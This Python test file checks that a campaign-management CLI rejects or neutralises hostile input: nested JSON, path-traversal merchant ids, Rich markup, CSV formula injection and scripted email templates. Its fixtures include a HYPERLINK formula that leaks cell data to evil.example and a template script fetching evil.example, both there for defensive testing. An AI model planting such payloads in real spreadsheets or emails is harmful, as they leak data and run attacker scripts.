"""Hostile and careless input at the CLI: clear errors with exit 2, never a traceback, never markup or formulas from user text."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import polars as pl
import pytest
from typer.testing import CliRunner

from campaigns.cli import main as cli_main
from campaigns.cli.main import app
from campaigns.core.merchants import ensure_merchant
from campaigns.core.settings import get_settings
from campaigns.core.store.db import migrate, session_scope
from campaigns.core.store.models import Merchant
from campaigns.warehouse.connection import DuckDBWarehouse

runner = CliRunner()


def _flat(output: str) -> str:
    return " ".join(output.split())  # rich wraps long messages at the terminal width


def _run(*args: str, code: int = 0) -> str:
    result = runner.invoke(app, list(args))
    assert result.exit_code == code, result.output
    assert "Traceback" not in result.output
    return _flat(result.output)


@pytest.fixture
def store(home: Path) -> str:
    url = get_settings().store_url
    migrate(url)
    with session_scope(url) as s:
        ensure_merchant(s, "acme", name="Acme")
        ensure_merchant(s, "globex", name="Globex")
    return url


# --- 10: one top-level error handler ------------------------------------------------------------------------------
def _boom(*_args, **_kwargs):
    raise AttributeError("internal detail")


def test_an_unexpected_error_is_one_line_and_a_hint_then_the_traceback_with_debug(store: str, monkeypatch: pytest.MonkeyPatch) -> None:
    from campaigns.core import merchants

    monkeypatch.setattr(merchants, "list_merchants", _boom)
    out = _run("merchants", "list", code=1)
    assert "internal error: AttributeError: internal detail" in out and "campaigns --debug" in out
    result = runner.invoke(app, ["--debug", "merchants", "list"])
    assert result.exit_code == 1 and "Traceback (most recent call last)" in result.output and "_boom" in result.output


@pytest.mark.parametrize("depth", [100, 5_000, 100_000])
def test_deeply_nested_json_is_refused_with_exit_2(store: str, tmp_path: Path, depth: int) -> None:
    deep = tmp_path / "deep.json"
    deep.write_text("[" * depth + "]" * depth)
    assert f"JSON nested {depth:,} levels deep; at most 64" in _run("segments", "preview", "--rules", str(deep), "--merchant", "acme", code=2)
    assert f"JSON nested {depth:,} levels deep" in _run("optimize", "--curves", str(deep), "--out", str(tmp_path / "o.json"), code=2)
    flow = tmp_path / "flow.json"
    flow.write_text('{"steps": ' + "[" * depth + "]" * depth + "}")
    assert "levels deep" in _run("automations", "create", "--file", str(flow), "--merchant", "acme", code=2)


def test_a_binary_file_is_an_input_error(store: str, tmp_path: Path) -> None:
    binary = tmp_path / "curves.json"
    binary.write_bytes(bytes(range(256)) * 4)
    assert "error:" in _run("optimize", "--curves", str(binary), "--out", str(tmp_path / "o.json"), code=2)


@pytest.mark.parametrize(("exc", "expected"), [
    (ValueError("bad value"), "bad value"),
    (LookupError("no such thing"), "no such thing"),
    (RecursionError("maximum recursion depth exceeded"), "nested too deeply"),
    (FileNotFoundError(2, "No such file or directory", "/nowhere/x.json"), "/nowhere/x.json: No such file or directory"),
])
def test_expected_errors_exit_2_with_their_message(exc: BaseException, expected: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli_main.handle_error(exc, debug=False) == 2
    assert expected in _flat(capsys.readouterr().err)


# --- 11: user text is never Rich markup -----------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["oops [/]", "[link=file:///etc/passwd]click me[/link]", "stray [/bold] close"])
def test_campaign_names_print_as_written(store: str, name: str) -> None:
    out = _run("campaigns", "create", "--name", name, "--type", "CONVERSION", "--merchant", "acme")
    assert f"({name})" in out
    result = runner.invoke(app, ["campaigns", "list", "--merchant", "acme"], color=True)
    assert result.exit_code == 0, result.output
    assert "\x1b]8;" not in result.output  # no OSC 8 terminal hyperlink
    assert name.split()[0][:6] in result.output  # the table shows it literally (wrapped in its narrow column)


def test_errors_quoting_user_text_print_it_literally(store: str) -> None:
    out = _run("campaigns", "launch", "[/]nothing", "--merchant", "acme", code=2)
    assert "[/]nothing" in out


# --- 6 and 16: merchant ids --------------------------------------------------------------------------------------
@pytest.mark.parametrize("bad", ["../../../outside", "x/y", "a" * 300, "*", "Acme", "_lead", "sp ace", ""])
def test_merchant_ids_outside_the_grammar_are_refused_everywhere(store: str, tmp_path: Path, bad: str) -> None:
    assert "is not valid; use 1 to 40 characters" in _run("merchants", "add", bad, code=2)
    spend = tmp_path / "s.csv"
    spend.write_text("date,campaign_id,channel,spend,impressions,clicks\n2026-01-01,c1,email,1,1,1\n")
    assert "is not valid" in _run("import", "spend", str(spend), "--merchant", bad, code=2)
    assert "is not valid" in _run("campaigns", "list", "--merchant", bad, code=2)
    assert not (get_settings().landing_dir / "ad_spend" / bad).exists() if bad and "/" not in bad else True
    assert not list(tmp_path.parent.glob("**/outside"))
    with session_scope(store) as s:
        assert {m.id for m in s.query(Merchant)} == {"acme", "globex"}


def test_a_bad_default_merchant_setting_is_named(store: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CAMPAIGNS_DEFAULT_MERCHANT", "../x")
    get_settings.cache_clear()
    assert "default_merchant" in _run("campaigns", "list", code=2)


def test_unknown_merchants_are_refused_without_naming_the_others(store: str) -> None:
    out = _run("campaigns", "list", "--merchant", "nosuch", code=2)  # 21: like every other command
    assert "unknown merchant 'nosuch'" in out and "known to you" in out
    assert "acme" not in out and "globex" not in out


# --- 21: merchants add on an existing merchant ------------------------------------------------------------------------
def test_merchants_add_on_an_existing_merchant_says_what_changed(store: str) -> None:
    assert "merchant acme already exists; nothing changed (name 'Acme', time zone UTC)" in _run("merchants", "add", "acme")
    assert "updated name 'Acme' -> 'Acme Outdoor'; timezone 'UTC' -> 'Europe/Berlin'" in _run(
        "merchants", "add", "acme", "--name", "Acme Outdoor", "--timezone", "Europe/Berlin")
    with session_scope(store) as s:
        row = s.get(Merchant, "acme")
        assert (row.name, row.timezone) == ("Acme Outdoor", "Europe/Berlin")
    assert "merchant initech is ready (name 'Initech', time zone UTC)" in _run("merchants", "add", "initech", "--name", "Initech")


# --- 5: exports never write a formula ---------------------------------------------------------------------------------
def test_export_neutralises_formula_cells(store: str, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?leak="&A1, "x")'
    rows = [("acme", "linear", "rule_based", evil, 4.0, 400.0), ("acme", "linear", "rule_based", "@cmd", 1.0, 10.0),
            ("acme", "linear", "rule_based", "-2+3", 1.0, 5.0), ("acme", "linear", "rule_based", "email", 2.0, -3.5)]
    warehouse = DuckDBWarehouse(get_settings().duckdb_path)
    warehouse.replace_table("marts", "attribution_by_channel_all_models", pl.DataFrame(
        rows, schema=["merchant_id", "model", "model_family", "channel", "conversions", "revenue"], orient="row"))
    out = tmp_path / "a.csv"
    _run("export", "attribution", "--out", str(out), "--merchant", "acme", "--model", "linear")
    with out.open(newline="") as handle:
        cells = {row["channel"]: row for row in csv.DictReader(handle)}
    assert set(cells) == {"'" + evil, "'@cmd", "'-2+3", "email"}
    assert cells["email"]["revenue"] == "-3.5"  # numbers stay numbers


def test_export_for_another_merchant_does_not_list_who_has_data(store: str, tmp_path: Path) -> None:
    warehouse = DuckDBWarehouse(get_settings().duckdb_path)
    warehouse.replace_table("marts", "attribution_by_channel_all_models", pl.DataFrame(
        [("globex", "linear", "rule_based", "x", 1.0, 1.0)], schema=["merchant_id", "model", "model_family", "channel", "conversions", "revenue"],
        orient="row"))
    out = _run("export", "attribution", "--out", str(tmp_path / "a.csv"), "--merchant", "acme", code=2)
    assert "no attribution rows for merchant 'acme'" in out and "globex" not in out


# --- 13: optimize ----------------------------------------------------------------------------------------------------
def test_optimize_with_an_absurd_budget_is_an_error(tmp_path: Path) -> None:
    problem = {"budget": 1e308, "budget_mode": "exact", "channels": [
        {"name": "email", "curve": {"family": "exponential", "a": 5000, "b": 1200}, "current_spend": 1000, "max": 5000},
        {"name": "search", "curve": {"family": "hill", "a": 9000, "k": 3000, "s": 2.2}, "current_spend": 4000},
        {"name": "social", "curve": {"family": "log", "a": 800, "b": 500}, "current_spend": 500}]}
    path, out = tmp_path / "p.json", tmp_path / "a.json"
    path.write_text(json.dumps(problem))
    assert "'budget' is 1e+308; amounts may be at most 1e+12" in _run("optimize", "--curves", str(path), "--out", str(out), code=2)
    assert not out.exists()


# --- 7: import limits through the command ----------------------------------------------------------------------------
def test_import_reports_out_of_range_values_and_utf16(store: str, tmp_path: Path) -> None:
    spend = tmp_path / "s.csv"
    spend.write_text("date,campaign_id,channel,spend,impressions,clicks\n0000-01-01,c1,email,1e308,1e30,99999999999999999999\n")
    out = _run("import", "spend", str(spend), "--merchant", "acme", code=2)
    assert "row 1 (line 2), column 'spend': 1e308 is out of range; an amount from 0 to 1,000,000,000,000 is allowed" in out
    assert "column 'impressions': 1e30 is out of range" in out and "column 'clicks': 99999999999999999999 is out of range" in out
    assert "column 'date': '0000-01-01' is out of range; dates from 1970-01-01 to 2200-12-31" in out
    utf16 = tmp_path / "u.csv"
    utf16.write_text("date,campaign_id,channel,spend,impressions,clicks\n2026-01-01,c1,email,1,1,1\n", encoding="utf-16")
    assert "the file is UTF-16 encoded" in _run("import", "spend", str(utf16), "--merchant", "acme", code=2)
    assert not get_settings().landing_dir.exists() or not any(get_settings().landing_dir.rglob("*.parquet"))


# --- 20: email templates lose scripts and handlers, with a warning ------------------------------------------------------
def test_templates_add_strips_scripts_and_handlers_with_a_warning(store: str, tmp_path: Path) -> None:
    from campaigns.core.store.models import EmailTemplate

    page = tmp_path / "t.html"
    page.write_text('<p onclick="steal()">Hi {{ first_name }}</p><script>fetch("//evil.example")</script>')
    result = runner.invoke(app, ["email", "templates", "add", "Promo", "--file", str(page), "--merchant", "acme"])
    assert result.exit_code == 0, result.output
    out = _flat(result.output)
    assert "warning:" in out and "removed 1 <script> element(s)" in out and "removed 1 on*= event handler" in out
    with session_scope(store) as s:
        html = s.query(EmailTemplate).filter_by(merchant_id="acme", name="Promo").one().html
    assert "<script" not in html and "onclick" not in html and "Hi {{ first_name }}" in html
    assert "they are stripped" in _run("email", "templates", "check", "--file", str(page))


# --- 8 and 10: a malformed or weak token key is an input error for every use ----------------------------------------------
@pytest.mark.parametrize("key", ["a", "not-a-key,also-not", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="])
def test_publish_due_with_a_bad_key_is_exit_2_without_traceback(store: str, monkeypatch: pytest.MonkeyPatch, key: str) -> None:
    monkeypatch.setenv("CAMPAIGNS_TOKEN_KEY", key)
    get_settings.cache_clear()
    out = _run("social", "publish-due", "--live", code=2)
    assert "CAMPAIGNS_TOKEN_KEY" in out and (len(key) < 8 or key not in out)  # the key itself is never printed


@pytest.mark.parametrize(("markup", "shown"), [
    ("oops [/]", "oops [/]"),
    ("[link=file:///etc/passwd]x[/link]", "[link=file:///etc/passwd]x[/link]"),
    ("Next: [bold]campaigns build[/]", "Next: campaigns build"),
    ("[yellow]note:[/] a [/] b", "note: a [/] b"),
    ("[red]x[/red] [/bold]", "x [/bold]"),
    ("\\[bold] literal", "[bold] literal"),
    ("[bold red]e[/] [white]w[/white]", "e w"),
])
def test_only_the_clis_own_style_tags_are_markup(markup: str, shown: str) -> None:
    from campaigns.cli.output import SafeConsole, defuse_markup, esc

    console = SafeConsole(width=200, color_system=None)
    with console.capture() as captured:
        console.print(markup)
    assert captured.get().rstrip("\n") == shown
    assert defuse_markup(esc(markup)) == esc(markup)  # escaped text stays escaped


def test_memory_errors_are_input_errors(capsys: pytest.CaptureFixture[str]) -> None:
    assert cli_main.handle_error(MemoryError(), debug=False) == 2
    assert "too large" in capsys.readouterr().err
